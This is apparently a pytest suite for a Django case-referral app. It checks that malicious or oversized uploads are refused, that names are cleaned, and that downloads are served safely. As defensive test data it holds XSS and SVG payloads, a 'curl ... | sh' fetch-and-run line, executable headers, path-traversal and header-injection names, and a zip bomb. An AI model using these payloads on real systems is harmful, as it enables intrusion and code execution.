"""Malicious and oversized uploads: sniffed by content, limited in size and number, stored under a
random name outside anything the web server serves, and handed back only as a download that no
browser will render, through the referral pages, the service and the API."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from casetrail.cases.models import Case
from casetrail.core.errors import InvalidInput
from casetrail.referrals import attachments as attachment_rules
from casetrail.referrals.attachments import MAX_FILES, UploadedFile, check_upload, safe_name
from casetrail.referrals.models import Attachment, Referral
from casetrail.referrals.services import referral_submit

from .conftest import PASSWORD, World, referral_input

LIMIT = 10 * 1024 * 1024
PDF = b"%PDF-1.4\n% a tiny test document\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode"
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"
ALLOWED_TYPES = {"application/pdf", "image/png", "image/jpeg", "text/plain", attachment_rules.DOCX}


def docx(members: dict[str, bytes] | None = None) -> bytes:
    """A minimal Word document: a zip holding the two parts every .docx has."""
    buffer = io.BytesIO()
    parts = members if members is not None else {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                               b'package/2006/content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><w:document/>',
    }
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@pytest.fixture
def store(world: World, settings: Any, tmp_path: Path) -> Path:
    """Uploads and pending uploads under a throwaway folder; returns it, to check what is on disk."""
    settings.VAR_DIR = tmp_path / "var"
    settings.MEDIA_ROOT = tmp_path / "var" / "uploads"
    return tmp_path


def files_under(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


def refused_message(files: list[UploadedFile], world: World) -> list[str]:
    with pytest.raises(InvalidInput) as refused:
        referral_submit(user=world.users["referrer"], data=referral_input(world), attachments=files)
    return refused.value.errors["attachments"]


# ---------------------------------------------------------------- the service refuses, and nothing changes

REFUSED = [
    pytest.param("big.pdf", b"%PDF-" + b"0" * (LIMIT - 4), "'big.pdf' must be smaller than 10 MB", id="one-byte-over"),
    pytest.param("empty.pdf", b"", "'empty.pdf' is empty", id="empty"),
    pytest.param("letter.pdf", HTML, "'letter.pdf' must be a PDF, Word document (.docx), JPG, PNG or text file",
                 id="html-named-pdf"),
    pytest.param("letter.pdf", b"  \n<script>alert(1)</script>", "'letter.pdf' must be a PDF, Word document "
                 "(.docx), JPG, PNG or text file", id="js-named-pdf"),
    pytest.param("report.pdf", ELF, "'report.pdf' must be a PDF, Word document (.docx), JPG, PNG or text file",
                 id="elf-named-pdf"),
    pytest.param("report.pdf", PE, "'report.pdf' must be a PDF, Word document (.docx), JPG, PNG or text file",
                 id="pe-named-pdf"),
    pytest.param("report.pdf", SHELL, "'report.pdf' must be a PDF, Word document (.docx), JPG, PNG or text file",
                 id="shell-named-pdf"),
    pytest.param("notes.txt", ELF, "'notes.txt' must be plain text", id="elf-named-txt"),
    pytest.param("notes.txt", b"MZ\x00\x00 looks like text", "'notes.txt' must be plain text", id="nul-in-txt"),
    pytest.param("page.html", HTML, "'page.html' must be a PDF, Word document (.docx), JPG, PNG or text file",
                 id="html"),
    pytest.param("logo.svg", SVG, "'logo.svg' must be a PDF, Word document (.docx), JPG, PNG or text file",
                 id="svg"),
    pytest.param("logo.png", SVG, "'logo.png' must be a PDF, Word document (.docx), JPG, PNG or text file",
                 id="svg-named-png"),
    pytest.param("page.html", POLYGLOT, "'page.html' does not match its file type", id="pdf-named-html"),
    pytest.param("notes.docx", b"PK\x03\x04" + b"\x00" * 40, "'notes.docx' is damaged or is not a Word document",
                 id="malformed-zip"),
    pytest.param("notes.docx", docx({"payload.exe": PE, "readme.txt": b"hello"}), "'notes.docx' is not a Word "
                 "document", id="zip-not-docx"),
    pytest.param("notes.docx", docx({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                                     "word/vbaProject.bin": b"\x00macro"}),
                 "'notes.docx' contains macros: save it as a plain Word document (.docx) and attach it again",
                 id="docx-with-macros"),
    pytest.param("passwd", b"root:x:0:0:root:/root:/bin/bash\n",
                 "'passwd' must be a PDF, Word document (.docx), JPG, PNG or text file", id="traversal-no-extension"),
    pytest.param("invoice\u202efdp.exe", PDF, "'invoicefdp.exe' does not match its file type", id="rtl-override"),
]


@pytest.mark.parametrize(("name", "content", "message"), REFUSED)
def test_the_service_refuses_a_bad_file_and_records_nothing(world: World, store: Path, name: str, content: bytes,
                                                            message: str) -> None:
    assert refused_message([UploadedFile(name, content)], world) == [f"File 1: {message}"]
    assert (Referral.objects.count(), Case.objects.count(), Attachment.objects.count()) == (0, 0, 0)
    assert files_under(store) == []


def test_a_file_of_exactly_the_limit_is_accepted(world: World, store: Path) -> None:
    assert django_settings.MAX_ATTACHMENT_BYTES == LIMIT
    content = b"%PDF-" + b"0" * (LIMIT - 5)
    referral, _ = referral_submit(user=world.users["referrer"], data=referral_input(world),
                                  attachments=[UploadedFile("big.pdf", content)])
    stored = referral.attachments.get()
    assert (stored.size, stored.content_type) == (LIMIT, "application/pdf")
    assert (Path(django_settings.MEDIA_ROOT) / stored.stored_name).stat().st_size == LIMIT


def test_more_files_than_allowed_are_refused_by_the_service_itself(world: World, store: Path) -> None:
    files = [UploadedFile(f"note{i}.txt", b"plain text") for i in range(MAX_FILES + 1)]
    assert refused_message(files, world) == [f"You can attach up to {MAX_FILES} files"]
    assert Attachment.objects.count() == 0 and files_under(store) == []
    # The limit itself is allowed.
    referral, _ = referral_submit(user=world.users["referrer"], data=referral_input(world), attachments=files[:-1])
    assert referral.attachments.count() == MAX_FILES


def test_one_bad_file_among_good_ones_stores_none_of_them(world: World, store: Path) -> None:
    files = [UploadedFile("notes.pdf", PDF), UploadedFile("logo.svg", SVG), UploadedFile("photo.png", PNG)]
    assert refused_message(files, world) == [
        "File 2: 'logo.svg' must be a PDF, Word document (.docx), JPG, PNG or text file"]
    assert Attachment.objects.count() == 0 and files_under(store) == []


def test_a_failure_after_the_files_are_written_leaves_none_behind(world: World, store: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    from casetrail.referrals import services

    def broken(**kwargs: Any) -> None:
        raise RuntimeError("the audit chain is unavailable")

    real = services.event_record
    calls = {"n": 0}

    def fail_after_files(**kwargs: Any) -> Any:
        calls["n"] += 1
        if kwargs.get("kind") == "referral.submitted":
            broken(**kwargs)
        return real(**kwargs)

    monkeypatch.setattr(services, "event_record", fail_after_files)
    with pytest.raises(RuntimeError):
        referral_submit(user=world.users["referrer"], data=referral_input(world),
                        attachments=[UploadedFile("notes.pdf", PDF)])
    assert calls["n"] >= 2 and Attachment.objects.count() == 0
    assert files_under(store) == []


# ---------------------------------------------------------------- Word documents are zips, never unpacked


def test_a_real_word_document_is_accepted_without_unpacking_it(world: World, store: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    def no_unpacking(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the server must not decompress an uploaded zip")

    document = docx()
    monkeypatch.setattr(zipfile.ZipFile, "open", no_unpacking)
    monkeypatch.setattr(zipfile.ZipFile, "extractall", no_unpacking)
    checked = check_upload(UploadedFile("plan.docx", document))
    assert checked.content_type == attachment_rules.DOCX


def test_a_zip_bomb_is_refused_from_its_directory_without_decompressing_it(
        world: World, store: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = docx({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                 "word/media/zeros.bin": b"\x00" * (attachment_rules.DOCX_MAX_UNPACKED_BYTES + 1)})
    assert len(bomb) < 200 * 1024  # a hundred megabytes of zeros squeeze into a few hundred kilobytes

    def no_unpacking(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the server must not decompress an uploaded zip")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_unpacking)
    assert refused_message([UploadedFile("plan.docx", bomb)], world) == [
        "File 1: 'plan.docx' unpacks to far more than its size: it cannot be accepted"]
    assert Attachment.objects.count() == 0 and files_under(store) == []


# ---------------------------------------------------------------- names are shown, never used as paths


@pytest.mark.parametrize(("given", "shown"), [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\windows\\system32\\notes.txt", "notes.txt"),
    ("/var/www/html/shell.txt", "shell.txt"),
    ("evil.html\x00.txt", "evil.html.txt"),
    ('notes"\r\nX-Injected: yes.txt', 'notes"X-Injected: yes.txt'),
    ("photo\u202egnp.txt", "photognp.txt"),
    ("zero\u200bwidth.txt", "zerowidth.txt"),
    ("..", "attachment"),
])
def test_a_file_name_is_cleaned_before_it_is_recorded(given: str, shown: str) -> None:
    assert safe_name(given) == shown


def test_a_very_long_name_is_shortened_keeping_its_extension() -> None:
    name = safe_name("a" * 300 + ".txt")
    assert len(name) == attachment_rules.MAX_NAME and name.endswith("aaa.txt")
    assert len(safe_name("b" * 300)) == attachment_rules.MAX_NAME


def test_hostile_names_are_stored_under_a_random_name_inside_the_upload_folder(world: World, store: Path) -> None:
    names = ["../../etc/passwd.txt", "evil.html\x00.txt", "a" * 300 + ".txt", "photo\u202egnp.txt",
             "<img src=x onerror=alert(1)>.txt"]
    referral, _ = referral_submit(user=world.users["referrer"], data=referral_input(world),
                                  attachments=[UploadedFile(n, f"file {i}".encode()) for i, n in enumerate(names)])
    uploads = Path(django_settings.MEDIA_ROOT)
    recorded = list(referral.attachments.order_by("pk"))
    assert [a.original_name for a in recorded] == [
        "passwd.txt", "evil.html.txt", "a" * 196 + ".txt", "photognp.txt", "<img src=x onerror=alert(1)>.txt"]
    on_disk = sorted(files_under(store))
    assert on_disk == sorted(uploads / a.stored_name for a in recorded)
    for attachment in recorded:
        assert len(attachment.stored_name) == 32 and int(attachment.stored_name, 16) >= 0
        mode = (uploads / attachment.stored_name).stat().st_mode
        # Readable by the service only, and never executable.
        assert stat.S_IMODE(mode) == 0o600


# ---------------------------------------------------------------- through the referral pages


def _walk(client: Client, world: World, files: list[SimpleUploadedFile]) -> Any:
    today = __import__("casetrail.clock", fromlist=["today"]).today()
    pages: list[tuple[str, dict[str, Any]]] = [
        ("about-you", {"referrer_name": "Rita Referrer", "referrer_job_title": "Head of year",
                       "referrer_email": "rita@example.org", "referrer_organisation": "Testshire Academy",
                       "referrer_sector": "education"}),
        ("person", {"given_names": "Leo", "family_name": "Marsh-Test", "sex": "male",
                    "local_authority": str(world.council.pk)}),
        ("concern", {"concern": "Shared violent extremist videos with younger pupils at lunch break.",
                     "first_observed_on_day": str(today.day), "first_observed_on_month": str(today.month),
                     "first_observed_on_year": str(today.year), "concern_types": ["extreme_right_wing"]}),
        ("urgency", {"urgency": "routine", "person_aware": "no"}),
    ]
    for page, data in pages:
        response = client.post(f"/referrals/new/{page}", data)
        assert response.status_code == 302, (page, response.content.decode()[:2000])
    return client.post("/referrals/new/attachments", {"attachments": files})


@pytest.mark.parametrize(("name", "content", "message"), [
    param for param in REFUSED if param.id in {
        "one-byte-over", "html-named-pdf", "elf-named-pdf", "shell-named-pdf", "svg", "pdf-named-html",
        "malformed-zip", "zip-not-docx", "rtl-override"}
])
def test_the_attachments_page_refuses_a_bad_file_and_keeps_nothing(
        client: Client, world: World, store: Path, name: str, content: bytes, message: str) -> None:
    client.force_login(world.users["referrer"])
    response = _walk(client, world, [SimpleUploadedFile(name, content)])
    assert response.status_code == 400
    page = response.content.decode()
    assert "There is a problem" in page
    from html import unescape
    assert message in unescape(page)
    assert client.session["referral_draft"]["files"] == []
    assert files_under(store) == [] and Attachment.objects.count() == 0


def test_the_attachments_page_refuses_too_many_files(client: Client, world: World, store: Path) -> None:
    client.force_login(world.users["referrer"])
    response = _walk(client, world, [SimpleUploadedFile(f"n{i}.txt", b"text") for i in range(MAX_FILES + 1)])
    assert response.status_code == 400 and f"You can attach up to {MAX_FILES} files" in response.content.decode()
    assert files_under(store) == []


def test_a_file_of_exactly_the_limit_goes_through_the_pages(client: Client, world: World, store: Path) -> None:
    client.force_login(world.users["referrer"])
    content = b"%PDF-" + b"0" * (LIMIT - 5)
    assert _walk(client, world, [SimpleUploadedFile("../../big.pdf", content)]).status_code == 302
    draft = client.session["referral_draft"]
    assert [f["name"] for f in draft["files"]] == ["big.pdf"]
    sent = client.post("/referrals/new/check", {"key": draft["key"]})
    assert sent.status_code == 302
    attachment = Attachment.objects.get()
    assert (attachment.original_name, attachment.size) == ("big.pdf", LIMIT)
    assert files_under(store) == [Path(django_settings.MEDIA_ROOT) / attachment.stored_name]


# ---------------------------------------------------------------- through the API


def test_the_api_takes_no_files_so_none_can_be_smuggled_in(client: Client, world: World, store: Path) -> None:
    from datetime import timedelta

    from casetrail import clock

    body = {
        "referrer_name": "Rita Referrer", "referrer_job_title": "Designated safeguarding lead",
        "referrer_email": "rita@example.org", "referrer_organisation": "Testshire Academy",
        "referrer_sector": "education", "given_names": "Sam", "family_name": "Okafor-Test",
        "local_authority_id": world.council.pk,
        "concern": "Has told classmates that violence against a named group is justified.",
        "first_observed_on": (clock.today() - timedelta(days=2)).isoformat(),
        "concern_types": ["extreme_right_wing"],
        "attachments": [{"name": "../../evil.html", "content": HTML.decode()}],
        "files": [{"name": "x.pdf", "content_base64": "JVBERi0xLjQK"}],
    }
    response = client.post("/api/v1/referrals", json.dumps(body), content_type="application/json",
                           HTTP_AUTHORIZATION=f"Bearer {world.token('referrer')}")
    assert response.status_code == 201, response.content
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert Attachment.objects.count() == 0 and files_under(store) == []
    schema = json.loads(Path(django_settings.BASE_DIR, "docs", "openapi.json").read_text())
    fields = schema["components"]["schemas"]["ReferralIn"]["properties"]
    assert not {"attachments", "files"} & set(fields), "the API now takes files: test them here"


# ---------------------------------------------------------------- stored outside anything served


def test_uploads_live_outside_every_folder_the_web_server_serves() -> None:
    media = Path(django_settings.MEDIA_ROOT).resolve()
    served = [Path(django_settings.STATIC_ROOT).resolve(), *(Path(d).resolve() for d in django_settings.STATICFILES_DIRS)]
    whitenoise_root = getattr(django_settings, "WHITENOISE_ROOT", None)
    if whitenoise_root:
        served.append(Path(whitenoise_root).resolve())
    for folder in served:
        assert not media.is_relative_to(folder) and not folder.is_relative_to(media), folder
    assert media.is_relative_to(Path(django_settings.VAR_DIR).resolve())
    assert not django_settings.MEDIA_URL or django_settings.MEDIA_URL == "/"


def _patterns(resolver: URLResolver, prefix: str = "") -> list[tuple[str, Any]]:
    found: list[tuple[str, Any]] = []
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            found.extend(_patterns(entry, prefix + str(entry.pattern)))
        elif isinstance(entry, URLPattern):
            found.append((prefix + str(entry.pattern), entry.callback))
    return found


def test_no_route_serves_files_from_disk_but_the_checked_download() -> None:
    from django.views.static import serve

    routes = _patterns(get_resolver())
    assert not [route for route, view in routes if view is serve or "static" in getattr(view, "__module__", "")]
    # The upload page of the referral form, and the one download, which checks access and logs it.
    assert sorted(route for route, view in routes if "attachment" in route) == [
        "cases/<int:case_id>/attachments/<int:attachment_id>", "referrals/new/attachments"]


def _download(client: Client, world: World, name: str, content: bytes) -> tuple[Attachment, Any]:
    referral, _ = referral_submit(user=world.users["referrer"], data=referral_input(world),
                                  attachments=[UploadedFile(name, content)])
    attachment = referral.attachments.get()
    client.login(username="police", password=PASSWORD)
    return attachment, client.get(f"/cases/{referral.case.pk}/attachments/{attachment.pk}")


@pytest.mark.parametrize(("name", "content", "content_type"), [
    ("letter.pdf", POLYGLOT, "application/pdf"),
    ("chat.txt", HTML + b"\n" + SVG, "text/plain"),
    ("script.txt", SHELL, "text/plain"),
    ("photo.png", PNG, "image/png"),
    ("plan.docx", docx(), attachment_rules.DOCX),
])
def test_a_download_is_never_rendered_by_the_browser(client: Client, world: World, store: Path, name: str,
                                                      content: bytes, content_type: str) -> None:
    # A PDF that also holds HTML keeps the PDF type its magic number gives it: the browser is told
    # what it is, not left to guess, and is told to save it rather than open it.
    attachment, response = _download(client, world, name, content)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == content_type and content_type in ALLOWED_TYPES
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert "no-store" in response["Cache-Control"]
    # Served from its random name, not the one the referrer gave.
    assert attachment.stored_name != name and (Path(django_settings.MEDIA_ROOT) / attachment.stored_name).exists()


def test_a_hostile_name_cannot_break_out_of_the_download_header(client: Client, world: World,
                                                                 store: Path) -> None:
    _, response = _download(client, world, 'notes"\r\nX-Injected: yes\u202e.txt', b"text")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="notes\\"X-Injected: yes.txt"'
    assert not response.has_header("X-Injected")


def test_only_people_working_on_the_case_can_download(client: Client, world: World, store: Path) -> None:
    referral, _ = referral_submit(user=world.users["referrer"], data=referral_input(world),
                                  attachments=[UploadedFile("notes.pdf", PDF)])
    attachment = referral.attachments.get()
    url = f"/cases/{referral.case.pk}/attachments/{attachment.pk}"
    for outsider in ["referrer", "provider", "other_coordinator"]:
        client.login(username=world.users[outsider].username, password=PASSWORD)
        assert client.get(url).status_code in (403, 404), outsider
    client.logout()
    assert client.get(url).status_code == 302  # to sign in
    client.login(username="police", password=PASSWORD)
    for guess in [f"/media/{attachment.stored_name}", f"/uploads/{attachment.stored_name}",
                  f"/assets/{attachment.stored_name}", f"/{attachment.stored_name}",
                  f"/assets/../var/uploads/{attachment.stored_name}"]:
        assert client.get(guess).status_code == 404, guess
